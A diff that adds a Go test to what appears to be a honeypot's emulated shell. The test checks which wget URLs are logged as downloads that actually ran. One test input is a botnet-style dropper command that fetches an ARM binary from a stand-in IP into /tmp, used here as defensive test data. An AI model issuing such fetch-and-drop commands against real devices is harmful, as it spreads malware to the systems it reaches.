@@ -239,3 +239,27 @@ func TestWgetWithTftpOptions(t *testing.T) {
 		t.Errorf("downloads %+v", r.Downloads)
 	}
 }
+
+// A URL no fetcher took (in an echo, a comment, a quoted string) is kept,
+// but never as a download that ran. (A curl the device lacks still counts as
+// the bot's download attempt: its payload host is intel.)
+func TestURLsOutsideFetchersDidNotRun(t *testing.T) {
+	d := newTestDevice(t, DefaultProfile(), DefaultLimits())
+	for _, line := range []string{
+		"echo wget http://echoonly.example/c",
+		"# wget http://comment.example/e",
+		`x="wget http://inquote.example/f"`,
+	} {
+		sh := d.NewShell(context.Background())
+		r := sh.Run(line)
+		sh.Close()
+		if len(r.Downloads) != 1 || r.Downloads[0].Ran {
+			t.Errorf("%q: downloads %+v, want one that did not run", line, r.Downloads)
+		}
+	}
+	sh := d.NewShell(context.Background())
+	defer sh.Close()
+	if r := sh.Run("cd /tmp; wget http://198.51.100.3/bins/x.arm"); len(r.Downloads) != 1 || !r.Downloads[0].Ran {
+		t.Errorf("a wget that ran: %+v", r.Downloads)
+	}
+}
